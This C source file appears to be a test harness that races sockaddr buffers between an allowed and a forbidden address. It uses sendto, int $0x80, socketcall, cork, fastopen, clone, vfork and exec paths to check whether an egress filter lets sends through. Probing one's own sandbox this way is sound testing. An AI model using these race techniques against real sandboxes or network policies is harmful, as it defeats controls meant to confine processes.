/* r43_attack: the fast path's CONTINUE raced from angles r42 did not take. A thread flips the
 * address a call passes (bytes of one buffer, between the allowed spelling and a forbidden one)
 * while the calls repeat; what reaches the forbidden sink is the test's ground truth.
 *
 *   r43_attack MODE WAIT_MS OKHOST OKPORT BADHOST BADPORT N [SPELL [FLAGS [OPTS]]]
 *
 * MODE:
 *   sendto        native sendto(2)
 *   int80         sendto through `int $0x80` (i386 number 369): from a -m32 build, or from a
 *                 64-bit process (its buffers mapped below 4 GiB)
 *   socketcall    i386 socketcall(SYS_SENDTO) (-m32 only); the flipper also rewrites the
 *                 argument array's address pointer between the two buffers
 *   cork          UDP_CORK on, two sendto(MSG_MORE) and a sendto, UDP_CORK off, each round
 *   fastopen-tcp  a new TCP socket each round, sendto(MSG_FASTOPEN) to the flipping address
 *   clonefiles    a process sharing the fd table (CLONE_FILES|CLONE_VM, not a thread) swaps
 *                 UDP, UDP-Lite and TCP sockets under the fd number while the address flips
 *   vfork         the sends made by a vfork child (the parent's flipper thread still runs)
 *   exec          a thread sends while the main thread execs this program again (mode sendto)
 * SPELL (how the forbidden address is written; the allowed one is always plain):
 *   plain | v4mapped (sockaddr_in6 ::ffff:BAD on an IPv4 socket) | v4-on-v6 (sockaddr_in BAD on
 *   an IPv6 socket, the allowed one v4-mapped) | unspec (AF_UNSPEC family word) | scope (IPv6,
 *   sin6_scope_id = ifindex of $R43_IF or lo, flowinfo set) | long (length 128, tail garbage) |
 *   short (length 8) | any (0.0.0.0 / ::) | bcast (SO_BROADCAST, 127.255.255.255)
 * FLAGS: comma list of confirm, more, fastopen, dontwait, or "-"
 * OPTS: comma list of sticky options set first on the socket, or "-": pktinfo, pktinfo6,
 *   bindtodevice, unicast_if, unicast_if6, mcast_if, mcast_if6, ttl1, mcast_ttl, srr
 *   (IP_OPTIONS loose source route via BADHOST), recverr; the device is $R43_IF or lo. Each
 *   prints "opt:NAME=0" or "opt:NAME=ERRNO".
 *
 * Prints "ok=N refused=N other=N" (EPERM counts as refused).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif
#ifndef UDP_CORK
#define UDP_CORK 1
#endif
#ifndef IP_UNICAST_IF
#define IP_UNICAST_IF 50
#endif
#ifndef IPV6_UNICAST_IF
#define IPV6_UNICAST_IF 76
#endif

static unsigned char okbuf[128], badbuf[128];
static int oklen, badlen, calllen;
/* Memory the calls pass: below 4 GiB for int $0x80 from a 64-bit process. */
static unsigned char *shared, *shared2;
static uint32_t *scargs; /* socketcall's argument array */
static volatile int stop_flag;
static volatile int swap_fd = -1;
static int family = AF_INET;
static long ok, refused, other;

static void usage(void) {
    fprintf(stderr, "usage: r43_attack MODE WAIT_MS OKHOST OKPORT BADHOST BADPORT N [SPELL [FLAGS [OPTS]]]\n");
    exit(2);
}

static int has(const char *list, const char *word) {
    size_t n = strlen(word);
    for (const char *p = list; p && *p;) {
        if (strncmp(p, word, n) == 0 && (p[n] == ',' || p[n] == 0))
            return 1;
        p = strchr(p, ',');
        if (p)
            p++;
    }
    return 0;
}

static int ifindex(void) {
    const char *name = getenv("R43_IF");
    return (int)if_nametoindex(name && *name ? name : "lo");
}

/* Writes HOST:PORT into buf as `fam` (v4 hosts as v4-mapped when fam is AF_INET6). */
static int spell(unsigned char *buf, int fam, const char *host, const char *port) {
    memset(buf, 0, 128);
    struct in_addr a4;
    struct in6_addr a6;
    int is4 = inet_pton(AF_INET, host, &a4) == 1;
    if (!is4 && inet_pton(AF_INET6, host, &a6) != 1)
        usage();
    if (fam == AF_INET) {
        if (!is4)
            usage();
        struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)), .sin_addr = a4};
        memcpy(buf, &sin, sizeof(sin));
        return sizeof(sin);
    }
    struct sockaddr_in6 s6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port))};
    if (is4) {
        s6.sin6_addr.s6_addr[10] = 0xff;
        s6.sin6_addr.s6_addr[11] = 0xff;
        memcpy(&s6.sin6_addr.s6_addr[12], &a4, 4);
    } else {
        s6.sin6_addr = a6;
    }
    memcpy(buf, &s6, sizeof(s6));
    return sizeof(s6);
}

static void *flipper(void *arg) {
    (void)arg;
    int n = oklen > badlen ? oklen : badlen;
    while (!stop_flag) {
        memcpy(shared, badbuf, (size_t)n);
        if (scargs)
            scargs[4] = (uint32_t)(uintptr_t)shared2;
        __asm__ volatile("" ::: "memory");
        memcpy(shared, okbuf, (size_t)n);
        if (scargs)
            scargs[4] = (uint32_t)(uintptr_t)shared;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

/* The sixth int $0x80 argument, loaded into ebp. */
uint32_t r43_g6 __attribute__((used));

/* An i386 system call: `int $0x80` from a 64-bit process; from the -m32 build, libc's
 * syscall(), which enters the same i386 ABI (the vDSO's entry or int $0x80). */
static long int80(long nr, long a, long b, long c, long d, long e, long f) {
#if defined(__i386__)
    return syscall(nr, a, b, c, d, e, f);
#else
    long ret;
    r43_g6 = (uint32_t)f;
    __asm__ volatile("sub $128, %%rsp\n\tpush %%rbp\n\tmovl r43_g6(%%rip), %%ebp\n\tint $0x80\n\tpop %%rbp\n\tadd $128, %%rsp"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory", "r8", "r9", "r10", "r11", "cc");
    if (ret < 0 && ret > -4096) {
        errno = (int)-ret;
        return -1;
    }
    return ret;
#endif
}

static int flags_of(const char *list) {
    int f = 0;
    if (has(list, "confirm"))
        f |= MSG_CONFIRM;
    if (has(list, "more"))
        f |= MSG_MORE;
    if (has(list, "fastopen"))
        f |= MSG_FASTOPEN;
    if (has(list, "dontwait"))
        f |= MSG_DONTWAIT;
    return f;
}

static void set_opts(int s, const char *list, const char *badhost) {
    int idx = ifindex();
    const char *dev = getenv("R43_IF");
    if (!dev || !*dev)
        dev = "lo";
#define OPT(name, lvl, opt, val, len)                                                              \
    if (has(list, name)) {                                                                         \
        int r = setsockopt(s, lvl, opt, val, len);                                                 \
        printf("opt:%s=%d\n", name, r == 0 ? 0 : errno);                                           \
    }
    int one = 1;
    OPT("recverr", SOL_IP, IP_RECVERR, &one, sizeof(one));
    OPT("pktinfo", SOL_IP, IP_PKTINFO, &one, sizeof(one));
    struct in6_pktinfo pi6 = {.ipi6_ifindex = (unsigned)idx};
    OPT("pktinfo6", SOL_IPV6, IPV6_PKTINFO, &pi6, sizeof(pi6));
    OPT("bindtodevice", SOL_SOCKET, SO_BINDTODEVICE, dev, (socklen_t)strlen(dev) + 1);
    uint32_t uidx = htonl((uint32_t)idx);
    OPT("unicast_if", SOL_IP, IP_UNICAST_IF, &uidx, sizeof(uidx));
    OPT("unicast_if6", SOL_IPV6, IPV6_UNICAST_IF, &idx, sizeof(idx));
    struct ip_mreqn mr = {.imr_ifindex = idx};
    OPT("mcast_if", SOL_IP, IP_MULTICAST_IF, &mr, sizeof(mr));
    OPT("mcast_if6", SOL_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
    int ttl1 = 1;
    OPT("ttl1", SOL_IP, IP_TTL, &ttl1, sizeof(ttl1));
    int mttl = 255;
    OPT("mcast_ttl", SOL_IP, IP_MULTICAST_TTL, &mttl, sizeof(mttl));
    OPT("mcast_loop", SOL_IP, IP_MULTICAST_LOOP, &one, sizeof(one));
    /* IP_OPTIONS: loose source and record route through BADHOST. */
    unsigned char srr[8] = {1, 0x83, 7, 4};
    inet_pton(AF_INET, badhost, &srr[4]);
    OPT("srr", SOL_IP, IP_OPTIONS, srr + 1, 7);
    fflush(stdout);
#undef OPT
}

static void count(long r) {
    if (r >= 0)
        ok++;
    else if (errno == EPERM)
        refused++;
    else
        other++;
}

static int new_socket(void) {
    int s = socket(family, SOCK_DGRAM, 0);
    if (s < 0) {
        perror("socket");
        exit(1);
    }
    return s;
}

static int clone_swapper(void *arg) {
    (void)arg;
    static const int kinds[3][2] = {{SOCK_DGRAM, 0}, {SOCK_DGRAM, IPPROTO_UDPLITE}, {SOCK_STREAM, 0}};
    for (unsigned i = 0; !stop_flag; i++) {
        int s = socket(family, kinds[i % 3][0] | SOCK_NONBLOCK, kinds[i % 3][1]);
        if (s < 0)
            continue;
        dup2(s, swap_fd);
        close(s);
    }
    return 0;
}

static char **saved_argv;
static long n_calls;
static int sendflags;

static void *exec_sender(void *arg) {
    int s = (int)(intptr_t)arg;
    for (long i = 0; i < n_calls && !stop_flag; i++)
        count(sendto(s, "x", 1, sendflags, (struct sockaddr *)shared, (socklen_t)calllen));
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 8)
        usage();
    saved_argv = argv;
    const char *mode = argv[1];
    const char *sp = argc > 8 ? argv[8] : "plain";
    const char *fl = argc > 9 ? argv[9] : "-";
    const char *opts = argc > 10 ? argv[10] : "-";
    usleep((useconds_t)atoi(argv[2]) * 1000);
    n_calls = atol(argv[7]);
    sendflags = flags_of(fl);

    if (strcmp(sp, "v4-on-v6") == 0 || strcmp(sp, "scope") == 0 || strchr(argv[3], ':'))
        family = AF_INET6;
    oklen = spell(okbuf, family, argv[3], argv[4]);
    badlen = spell(badbuf, family, argv[5], argv[6]);
    calllen = oklen;
    if (strcmp(sp, "v4mapped") == 0) {
        badlen = spell(badbuf, AF_INET6, argv[5], argv[6]);
        calllen = badlen;
    } else if (strcmp(sp, "v4-on-v6") == 0) {
        badlen = spell(badbuf, AF_INET, argv[5], argv[6]);
    } else if (strcmp(sp, "unspec") == 0) {
        badbuf[0] = AF_UNSPEC;
        badbuf[1] = 0;
    } else if (strcmp(sp, "scope") == 0) {
        struct sockaddr_in6 *b = (struct sockaddr_in6 *)badbuf;
        b->sin6_scope_id = (uint32_t)ifindex();
        b->sin6_flowinfo = htonl(0x000abcde);
    } else if (strcmp(sp, "long") == 0) {
        memset(okbuf + oklen, 0x41, sizeof(okbuf) - (size_t)oklen);
        memset(badbuf + badlen, 0x42, sizeof(badbuf) - (size_t)badlen);
        oklen = badlen = calllen = 128;
    } else if (strcmp(sp, "short") == 0) {
        calllen = 8;
    } else if (strcmp(sp, "any") == 0) {
        badlen = spell(badbuf, family, family == AF_INET ? "0.0.0.0" : "::", argv[6]);
    } else if (strcmp(sp, "bcast") == 0) {
        badlen = spell(badbuf, family, "127.255.255.255", argv[6]);
    } else if (strcmp(sp, "plain") != 0) {
        usage();
    }

    shared = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS
#ifdef MAP_32BIT
                                                          | MAP_32BIT
#endif
                  , -1, 0);
    if (shared == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    shared2 = shared + 2048;
    memcpy(shared, okbuf, sizeof(okbuf));
    memcpy(shared2, badbuf, sizeof(badbuf));
    if (strcmp(mode, "socketcall") == 0)
        scargs = (uint32_t *)(shared + 4096);

    int s = new_socket();
    if (strcmp(sp, "bcast") == 0) {
        int one = 1;
        setsockopt(s, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
    }
    if (strcmp(opts, "-") != 0)
        set_opts(s, opts, argv[5]);

    if (strcmp(mode, "exec") == 0 && argc > 11) {
        /* The image exec'd by the exec mode: a plain sender. */
        mode = "sendto";
    }

    signal(SIGPIPE, SIG_IGN);
    pthread_t flip;
    pthread_create(&flip, NULL, flipper, NULL);
    if (strcmp(mode, "sendto") == 0) {
        for (long i = 0; i < n_calls; i++)
            count(sendto(s, "x", 1, sendflags, (struct sockaddr *)shared, (socklen_t)calllen));
    } else if (strcmp(mode, "int80") == 0) {
        char *data = (char *)shared + 3000;
        data[0] = 'x';
        for (long i = 0; i < n_calls; i++)
            count(int80(369, s, (long)(uintptr_t)data, 1, sendflags, (long)(uintptr_t)shared, calllen));
    } else if (strcmp(mode, "socketcall") == 0) {
#ifndef __i386__
        fprintf(stderr, "socketcall needs the -m32 build\n");
        return 2;
#endif
        char *data = (char *)shared + 3000;
        data[0] = 'x';
        for (long i = 0; i < n_calls; i++) {
            scargs[0] = (uint32_t)s;
            scargs[1] = (uint32_t)(uintptr_t)data;
            scargs[2] = 1;
            scargs[3] = (uint32_t)sendflags;
            scargs[4] = (uint32_t)(uintptr_t)shared;
            scargs[5] = (uint32_t)calllen;
            count(int80(102, 11 /* SYS_SENDTO */, (long)(uintptr_t)scargs, 0, 0, 0, 0));
        }
    } else if (strcmp(mode, "cork") == 0) {
        int on = 1, off = 0;
        for (long i = 0; i < n_calls; i++) {
            setsockopt(s, IPPROTO_UDP, UDP_CORK, &on, sizeof(on));
            count(sendto(s, "x", 1, sendflags | MSG_MORE, (struct sockaddr *)shared, (socklen_t)calllen));
            count(sendto(s, "y", 1, sendflags | MSG_MORE, (struct sockaddr *)shared, (socklen_t)calllen));
            count(sendto(s, "z", 1, sendflags, (struct sockaddr *)shared, (socklen_t)calllen));
            setsockopt(s, IPPROTO_UDP, UDP_CORK, &off, sizeof(off));
        }
    } else if (strcmp(mode, "fastopen-tcp") == 0) {
        for (long i = 0; i < n_calls; i++) {
            int t = socket(family, SOCK_STREAM, 0);
            count(sendto(t, "x", 1, sendflags | MSG_FASTOPEN | MSG_DONTWAIT, (struct sockaddr *)shared,
                         (socklen_t)calllen));
            close(t);
        }
    } else if (strcmp(mode, "clonefiles") == 0) {
        swap_fd = new_socket();
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        pid_t child = clone(clone_swapper, stack + (1 << 16), CLONE_FILES | CLONE_VM | SIGCHLD, NULL);
        if (child < 0) {
            perror("clone");
            return 1;
        }
        for (long i = 0; i < n_calls; i++)
            count(sendto(swap_fd, "x", 1, sendflags | MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)shared,
                         (socklen_t)calllen));
        stop_flag = 1;
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
    } else if (strcmp(mode, "vfork") == 0) {
        /* The child borrows our memory: its counts land in our globals. */
        pid_t child = vfork();
        if (child == 0) {
            for (long i = 0; i < n_calls; i++)
                count(sendto(s, "x", 1, sendflags, (struct sockaddr *)shared, (socklen_t)calllen));
            _exit(0);
        }
        waitpid(child, NULL, 0);
    } else if (strcmp(mode, "exec") == 0) {
        pthread_t t;
        pthread_create(&t, NULL, exec_sender, (void *)(intptr_t)s);
        usleep(20000);
        char *nargv[13];
        nargv[0] = argv[0];
        nargv[1] = "exec";
        for (int i = 2; i < 8; i++)
            nargv[i] = argv[i];
        nargv[8] = (char *)sp;
        nargv[9] = (char *)fl;
        nargv[10] = "-";
        nargv[11] = "again";
        nargv[12] = NULL;
        execv("/proc/self/exe", nargv);
        perror("execv");
        return 1;
    } else {
        usage();
    }
    stop_flag = 1;
    pthread_join(flip, NULL);
    printf("ok=%ld refused=%ld other=%ld\n", ok, refused, other);
    return 0;
}
